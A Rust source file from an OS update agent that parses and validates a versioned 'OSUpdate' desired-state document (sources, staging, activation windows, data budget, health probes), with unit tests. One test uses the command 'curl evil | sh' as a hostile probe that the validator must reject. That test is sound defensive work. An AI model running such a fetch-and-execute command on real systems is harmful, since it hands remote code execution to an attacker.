//! The desired state: a small, versioned document (`apiVersion: edge-ota.io/v1alpha1`,
//! `kind: OSUpdate`) saying which release this device should run, where to get it, and when
//! it may be staged and applied. YAML or JSON, as a GitOps repository holds it.
//!
//! The document is not signed and needs not be: it only selects among signed bundles (the
//! bundle's signature, compatible string and anti-rollback floor are checked at apply as
//! always), and it can only add health checks, never remove the configured ones. Unknown
//! fields are refused, so a typo is an error, not a silently ignored policy.

use serde::{Deserialize, Serialize};

use crate::config::{AgentConfig, Check, ProbeConfig};
use crate::schedule::{WindowSpec, Windows};

pub const API_VERSION: &str = "edge-ota.io/v1alpha1";
pub const KIND: &str = "OSUpdate";
/// Largest document accepted, bytes.
pub const MAX_LEN: usize = 64 * 1024;

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct Document {
    pub api_version: String,
    pub kind: String,
    #[serde(default)]
    pub metadata: Metadata,
    pub spec: Spec,
}

#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Metadata {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub name: Option<String>,
    /// Kubernetes objects carry more metadata; only the name is used here.
    #[serde(flatten, skip_serializing)]
    pub other: serde_json::Map<String, serde_json::Value>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct Spec {
    /// The release to run (the bundle's `version`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub version: Option<semver::Version>,
    /// Or exactly this bundle (hex blake3 of its manifest, as `edge-ota info` prints).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub bundle_id: Option<String>,
    /// Where the bundle is, tried in order: http(s) URLs, paths, or `auto` (a base station
    /// found on the LAN).
    pub sources: Vec<String>,
    #[serde(default)]
    pub stage: StagePolicy,
    #[serde(default)]
    pub activation: Activation,
    /// Most bytes this update may download (with a suffix: `300MiB`, `2GB`); the
    /// configuration's `max_download` still applies.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub data_budget: Option<ByteSize>,
    /// Health settings added for the first boot of this update.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub health: Option<ExtraHealth>,
}

#[derive(
    Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize, schemars::JsonSchema,
)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct StagePolicy {
    #[serde(default)]
    pub policy: StageWhen,
}

#[derive(
    Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize, schemars::JsonSchema,
)]
pub enum StageWhen {
    /// Download as soon as the desired state arrives (a ship stages in harbour).
    #[default]
    Immediately,
    /// Download only inside the activation windows (a metered link that is free at night).
    InWindow,
}

#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct Activation {
    #[serde(default)]
    pub policy: ActivateWhen,
    /// Windows of this update; none: the configuration's `[[agent.window]]`.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub windows: Vec<WindowSpec>,
}

#[derive(
    Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize, schemars::JsonSchema,
)]
pub enum ActivateWhen {
    /// Apply and reboot in the next maintenance window.
    #[default]
    Window,
    /// Apply and reboot as soon as staged.
    Now,
    /// Stage, then wait for `edge-ota agent apply` (or the API).
    Manual,
}

#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(deny_unknown_fields, rename_all = "camelCase")]
pub struct ExtraHealth {
    /// A longer deadline for the first boot of this update (never shorter than configured).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub deadline_secs: Option<u64>,
    /// Probes added to the configured ones, same fields as `[[health.probe]]`.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    #[schemars(schema_with = "any_objects")]
    pub probes: Vec<serde_json::Value>,
}

/// Probes are checked by their own parser (`[[health.probe]]`), so the schema only says
/// "objects": a Kubernetes API server keeps their fields instead of pruning them.
fn any_objects(_: &mut schemars::SchemaGenerator) -> schemars::Schema {
    schemars::json_schema!({
        "type": "array",
        "items": {"type": "object", "x-kubernetes-preserve-unknown-fields": true}
    })
}

/// A byte count written as a number or with a unit (`500MiB`, `2 GB`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ByteSize(pub u64);

impl Serialize for ByteSize {
    fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_u64(self.0)
    }
}

impl schemars::JsonSchema for ByteSize {
    fn schema_name() -> std::borrow::Cow<'static, str> {
        "ByteSize".into()
    }
    fn json_schema(_: &mut schemars::SchemaGenerator) -> schemars::Schema {
        schemars::json_schema!({
            "description": "Bytes: a number, or a number with a unit (`300MiB`, `2GB`).",
            "x-kubernetes-int-or-string": true
        })
    }
}

impl<'de> Deserialize<'de> for ByteSize {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        #[derive(Deserialize)]
        #[serde(untagged)]
        enum Raw {
            N(u64),
            S(String),
        }
        match Raw::deserialize(d)? {
            Raw::N(n) => Ok(ByteSize(n)),
            Raw::S(s) => parse_size(&s)
                .map(ByteSize)
                .map_err(serde::de::Error::custom),
        }
    }
}

fn parse_size(s: &str) -> Result<u64, String> {
    let t = s.trim();
    let split = t.find(|c: char| !c.is_ascii_digit()).unwrap_or(t.len());
    let (num, unit) = t.split_at(split);
    let n: u64 = num
        .parse()
        .map_err(|_| format!("size {s:?}: expected a number with an optional unit"))?;
    let mult: u64 = match unit.trim() {
        "" | "B" => 1,
        "KB" | "kB" => 1000,
        "MB" => 1_000_000,
        "GB" => 1_000_000_000,
        "KiB" | "Ki" => 1 << 10,
        "MiB" | "Mi" => 1 << 20,
        "GiB" | "Gi" => 1 << 30,
        other => return Err(format!("size {s:?}: unknown unit {other:?}")),
    };
    n.checked_mul(mult)
        .ok_or_else(|| format!("size {s:?} is too large"))
}

/// A document, checked against itself and the device's agent configuration.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Desired {
    pub doc: Document,
    /// Where it came from (`file:/var/lib/edge-ota/desired.yaml`, `url:https://…`,
    /// `media:/dev/sda1`, `api`).
    pub origin: String,
    /// Identity of the spec: a changed spec is a new desired state (failures start over).
    pub generation: String,
}

impl Desired {
    pub fn spec(&self) -> &Spec {
        &self.doc.spec
    }

    /// What it asks for, for people: `2.0.0` or `bundle 1a2b3c4d…`.
    pub fn target(&self) -> String {
        match (&self.doc.spec.version, &self.doc.spec.bundle_id) {
            (Some(v), _) => v.to_string(),
            (None, Some(id)) => format!("bundle {}", &id[..id.len().min(16)]),
            (None, None) => "nothing".into(),
        }
    }

    /// The windows that gate this update: its own, else the configuration's.
    pub fn windows(&self, agent: &AgentConfig) -> Windows {
        let specs = if self.doc.spec.activation.windows.is_empty() {
            &agent.windows
        } else {
            &self.doc.spec.activation.windows
        };
        // Both were compiled when parsed or configured.
        Windows::compile(specs).unwrap_or_default()
    }

    /// The probes this update adds, checked.
    pub fn extra_probes(&self) -> Vec<ProbeConfig> {
        self.doc
            .spec
            .health
            .iter()
            .flat_map(|h| &h.probes)
            .filter_map(|v| serde_json::from_value(v.clone()).ok())
            .collect()
    }
}

/// Parse and check a document (YAML or JSON) from `origin`.
pub fn parse(bytes: &[u8], origin: &str, agent: &AgentConfig) -> Result<Desired, String> {
    if bytes.len() > MAX_LEN {
        return Err(format!(
            "desired state from {origin} is {} bytes (limit {MAX_LEN})",
            bytes.len()
        ));
    }
    let text = std::str::from_utf8(bytes)
        .map_err(|_| format!("desired state from {origin} is not UTF-8"))?;
    let doc: Document =
        serde_yaml_ng::from_str(text).map_err(|e| format!("desired state from {origin}: {e}"))?;
    from_document(doc, origin, agent)
}

/// Check a document already parsed (the Kubernetes provider hands over objects).
pub fn from_document(doc: Document, origin: &str, agent: &AgentConfig) -> Result<Desired, String> {
    let bad = |why: String| -> Result<Desired, String> {
        Err(format!("desired state from {origin}: {why}"))
    };
    if doc.api_version != API_VERSION || doc.kind != KIND {
        return bad(format!(
            "apiVersion/kind {}/{} (expected {API_VERSION}/{KIND})",
            doc.api_version, doc.kind
        ));
    }
    let spec = &doc.spec;
    if spec.version.is_none() && spec.bundle_id.is_none() {
        return bad("spec needs a version or a bundleId".into());
    }
    if let Some(id) = &spec.bundle_id {
        if id.len() != 64 || !id.bytes().all(|b| b.is_ascii_hexdigit()) {
            return bad(format!("bundleId {id:?} is not 64 hex digits"));
        }
    }
    if spec.sources.is_empty() || spec.sources.len() > 16 {
        return bad("spec.sources needs 1 to 16 entries".into());
    }
    for s in &spec.sources {
        if s.is_empty() || s.len() > 4096 {
            return bad(format!("source {s:?} is empty or too long"));
        }
    }
    if let Err(why) = Windows::compile(&spec.activation.windows) {
        return bad(why);
    }
    let needs_windows =
        spec.activation.policy == ActivateWhen::Window || spec.stage.policy == StageWhen::InWindow;
    if needs_windows && spec.activation.windows.is_empty() && agent.windows.is_empty() {
        return bad(
            "activation in a window, but neither the desired state nor [[agent.window]] has one"
                .into(),
        );
    }
    if let Some(h) = &spec.health {
        if let Some(d) = h.deadline_secs {
            if !crate::config::bounds::DEADLINE_SECS.contains(&d) {
                return bad(format!("health.deadlineSecs {d} is out of range"));
            }
        }
        if h.probes.len() > crate::config::bounds::PROBES {
            return bad("too many health probes".into());
        }
        for v in &h.probes {
            let p: ProbeConfig = serde_json::from_value(v.clone())
                .map_err(|e| format!("desired state from {origin}: health probe: {e}"))?;
            if matches!(p.check, Check::Command { .. }) && !agent.allow_command_probes {
                return bad(format!(
                    "health probe {:?} runs a command; desired states are not signed, so that \
                     needs allow_command_probes = true in [agent]",
                    p.name
                ));
            }
            if !crate::config::bounds::PROBE_TIMEOUT_SECS.contains(&p.timeout_secs) {
                return bad(format!("health probe {:?}: timeout out of range", p.name));
            }
        }
    }
    let canonical = serde_json::to_vec(&doc.spec).expect("spec serializes");
    let generation = blake3::hash(&canonical).to_hex()[..16].to_string();
    Ok(Desired {
        doc,
        origin: origin.to_string(),
        generation,
    })
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    pub(crate) fn agent() -> AgentConfig {
        toml::from_str::<AgentConfig>(
            "[[window]]\nschedule = \"0 2 * * *\"\nduration = \"2h\"\ntime_zone = \"UTC\"\n",
        )
        .unwrap()
    }

    const DOC: &str = r#"
apiVersion: edge-ota.io/v1alpha1
kind: OSUpdate
metadata:
  name: edge-2.0.0
  namespace: edge-system
spec:
  version: 2.0.0
  sources: ["http://10.0.2.2:8080/v2.bin", auto]
  stage: {policy: Immediately}
  activation:
    policy: Window
    windows:
      - schedule: "0 3 * * *"
        duration: 90m
        timeZone: Europe/Oslo
  dataBudget: 300MiB
  health:
    deadlineSecs: 600
    probes:
      - {name: app, kind: http, url: "http://127.0.0.1:8080/healthz"}
"#;

    #[test]
    fn full_document_parses() {
        let d = parse(DOC.as_bytes(), "test", &agent()).unwrap();
        assert_eq!(d.target(), "2.0.0");
        assert_eq!(d.spec().data_budget, Some(ByteSize(300 << 20)));
        assert_eq!(d.windows(&agent()).0.len(), 1);
        assert_eq!(d.extra_probes().len(), 1);
        assert_eq!(d.doc.metadata.name.as_deref(), Some("edge-2.0.0"));
    }

    #[test]
    fn json_document_parses_too() {
        let j = r#"{"apiVersion":"edge-ota.io/v1alpha1","kind":"OSUpdate","spec":{"version":"2.0.0","sources":["/media/x.bin"],"activation":{"policy":"Now"}}}"#;
        let d = parse(j.as_bytes(), "test", &agent()).unwrap();
        assert_eq!(d.spec().activation.policy, ActivateWhen::Now);
    }

    #[test]
    fn typo_in_a_field_is_refused_not_ignored() {
        let e = parse(
            DOC.replace("activation:", "activaton:").as_bytes(),
            "t",
            &agent(),
        )
        .unwrap_err();
        assert!(e.contains("activaton"), "{e}");
    }

    #[test]
    fn wrong_kind_or_api_version_is_refused() {
        let e = parse(DOC.replace("OSUpdate", "Pod").as_bytes(), "t", &agent()).unwrap_err();
        assert!(e.contains("expected edge-ota.io/v1alpha1/OSUpdate"), "{e}");
    }

    #[test]
    fn unsigned_document_cannot_add_a_command_probe() {
        let doc = DOC.replace(
            "{name: app, kind: http, url: \"http://127.0.0.1:8080/healthz\"}",
            "{name: x, kind: command, command: [sh, -c, \"curl evil | sh\"]}",
        );
        let e = parse(doc.as_bytes(), "t", &agent()).unwrap_err();
        assert!(e.contains("allow_command_probes"), "{e}");
        let mut a = agent();
        a.allow_command_probes = true;
        assert!(parse(doc.as_bytes(), "t", &a).is_ok());
    }

    #[test]
    fn window_policy_without_any_window_is_refused() {
        let doc = DOC.replace(
            "    windows:\n      - schedule: \"0 3 * * *\"\n        duration: 90m\n        timeZone: Europe/Oslo\n",
            "",
        );
        let mut a = agent();
        a.windows.clear();
        let e = parse(doc.as_bytes(), "t", &a).unwrap_err();
        assert!(e.contains("neither"), "{e}");
        assert!(parse(doc.as_bytes(), "t", &agent()).is_ok());
    }

    #[test]
    fn oversized_document_is_refused_before_parsing() {
        let big = vec![b' '; MAX_LEN + 1];
        assert!(parse(&big, "t", &agent()).unwrap_err().contains("limit"));
    }

    #[test]
    fn generation_changes_with_the_spec_not_the_metadata() {
        let a = parse(DOC.as_bytes(), "t", &agent()).unwrap();
        let b = parse(
            DOC.replace("name: edge-2.0.0", "name: renamed").as_bytes(),
            "t",
            &agent(),
        )
        .unwrap();
        let c = parse(DOC.replace("300MiB", "301MiB").as_bytes(), "t", &agent()).unwrap();
        assert_eq!(a.generation, b.generation);
        assert_ne!(a.generation, c.generation);
    }

    #[test]
    fn sizes_with_units_parse_and_overflow_is_refused() {
        assert_eq!(parse_size("2 GB").unwrap(), 2_000_000_000);
        assert_eq!(parse_size("64Ki").unwrap(), 65536);
        assert!(parse_size("99999999999999999999GiB").is_err());
        assert!(parse_size("5 parsecs").is_err());
    }
}
